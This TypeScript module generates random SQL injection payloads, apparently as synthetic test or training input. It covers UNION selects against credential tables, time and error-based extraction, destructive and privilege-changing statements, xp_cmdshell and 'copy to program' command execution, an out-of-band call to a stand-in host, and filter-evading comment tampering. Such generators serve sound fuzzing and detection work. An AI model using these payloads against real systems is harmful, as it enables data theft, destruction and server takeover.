// SQL injection by its grammar: a context to break out of, a condition, query or statement of some dialect, and an end.
import type { Random } from '../random.ts';

const CONTEXTS = ['1', '-1', "'", '"', "x'", "admin'", "1')", "1'))", '1)', "%'", "test'", '7', "a')"] as const;

/** Names, tables and columns that attackers ask for. */
const TABLES = [
  'users',
  'accounts',
  'information_schema.tables',
  'sqlite_master',
  'all_tables',
  'mysql.user',
  'pg_catalog.pg_user',
  'members',
];
const COLUMNS = ['password', 'username', 'table_name', 'email', 'passwd', 'name', 'secret', 'sql'];

function condition(r: Random): string {
  const n = r.integer(1, 9999);
  const s = r.word();
  return r.pick([
    `${n}=${n}`,
    `'${s}'='${s}'`,
    `${n}<${n + 3}`,
    `${n} between 1 and 99999`,
    `ascii(substr((select ${r.pick(COLUMNS)} from ${r.pick(TABLES)} limit 1),1,1))>${r.integer(32, 120)}`,
    `length(database())=${n % 20}`,
    `exists(select * from ${r.pick(TABLES)})`,
    `(select count(*) from ${r.pick(TABLES)})>0`,
    `${n} like ${n}`,
    `'${s}' like '${s}'`,
    `${n} in (${n})`,
    `case when ${n}=${n} then 1 else 0 end=1`,
  ]);
}

const columns = (r: Random): string =>
  Array.from({ length: r.integer(1, 7) }, (_, i) =>
    r.pick([
      'NULL',
      String(i + 1),
      '@@version',
      'user()',
      r.pick(COLUMNS),
      'concat(username,0x3a,password)',
      "'a'",
      'version()',
    ]),
  ).join(',');

const PAUSES = [
  'sleep(5)',
  'benchmark(5000000,md5(1))',
  '(select * from (select(sleep(5)))a)',
  '(select 1 from pg_sleep(5))',
  'pg_sleep(5) is null',
  "1=dbms_pipe.receive_message('a',5)",
  "1=like('ABCDEFG',upper(hex(randomblob(100000000))))",
];
const ERRORS = [
  'extractvalue(1,concat(0x7e,version()))',
  'updatexml(1,concat(0x7e,(select user())),1)',
  '1=convert(int,(select @@version))',
  '1=cast((select version()) as int)',
  '1=utl_inaddr.get_host_address((select user from dual))',
  '(select 1 from (select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x)a)',
  '1=ctxsys.drithsx.sn(1,(select user from dual))',
  'gtid_subset(version(),1)',
];
const STATEMENTS = (r: Random): string =>
  r.pick([
    `drop table ${r.word()}`,
    `insert into users values(1,'${r.word()}','x')`,
    `update users set role='admin' where id=${r.integer(1, 99)}`,
    "exec xp_cmdshell 'whoami'",
    "exec master..xp_dirtree '//a.example/b'",
    "waitfor delay '0:0:5'",
    'select pg_sleep(5)',
    'declare @a varchar(99); set @a=0x73656c656374; exec(@a)',
    "copy (select '') to program 'id'",
    'shutdown',
    "create user x identified by 'y'",
    'delete from sessions',
  ]);

function end(r: Random, context: string): string {
  const quote = /['"]/.exec(context)?.[0];
  const open = context.split(')').length - 1;
  if (r.chance(0.65)) return r.pick(['--', '-- -', '#', '-- x', '/*', ';--', ' --+']);
  const word = r.word();
  return quote === undefined ? '-- -' : ` and ${'('.repeat(open)}${quote}${word}${quote}=${quote}${word}`;
}

export function sqlAttack(r: Random): string {
  const context = r.pick(CONTEXTS);
  const finish = end(r, context);
  const text = r.pick([
    () => `${context} ${r.pick(['or', 'and', 'or not', 'xor', '||', '&&'])} ${condition(r)}${finish}`,
    () =>
      `${context} union ${r.pick(['', 'all ', 'distinct '])}select ${columns(r)}${r.pick(['', ` from ${r.pick(TABLES)}`])}${finish}`,
    () => `${context};${r.pick(['', ' '])}${STATEMENTS(r)}${r.pick(['--', ';--', '-- -'])}`,
    () => `${context} ${r.pick(['and', 'or'])} ${r.pick(PAUSES)}${finish}`,
    () => `${context} ${r.pick(['and', 'or'])} ${r.pick(ERRORS)}${finish}`,
    () => `${context} order by ${r.integer(1, 30)}${r.pick(['--', '-- -', '#'])}`,
    () =>
      `${context} ${r.pick(['rlike', 'regexp'])} (select (case when (${r.integer(1, 99)}=7) then 1 else 0x28 end))${finish}`,
    () => `(select ${r.pick(COLUMNS)} from ${r.pick(TABLES)} limit 1)`,
    () => `${r.word()}' ${r.pick(['or', 'and'])} ${condition(r)}${end(r, "'")}`,
    () => `1 ${r.pick(['procedure analyse()', "into outfile '/tmp/x'", 'group by 1 having 1=1'])}-- -`,
    () => `if(now()=sysdate(),sleep(${r.integer(3, 9)}),0)`,
    () => `'${r.pick(['+', '||', '-'])}(select ${r.pick(COLUMNS)} from ${r.pick(TABLES)})${r.pick(['+', '||', '-'])}'`,
  ])();
  return disguise(r, text);
}

/** Case, comments and white space, as tools tamper with them. */
function disguise(r: Random, text: string): string {
  return r.pick<(t: string) => string>([
    (t) => t,
    (t) => t,
    (t) => t.replace(/[a-z]/g, (c) => (r.chance(0.5) ? c.toUpperCase() : c)),
    (t) => t.toUpperCase(),
    (t) => t.replace(/ (?!-|$)/g, '/**/'),
    (t) => t.replace(/ (?!-|$)/g, r.pick(['\t', '\n', '  ', '\u000b', '\u00a0'])),
    (t) => t.replace(/\b(union|select)\b/gi, '/*!50000$1*/'),
    (t) => t.replace(/ (?!-|$)/g, `/*${r.word()}*/`),
  ])(text);
}
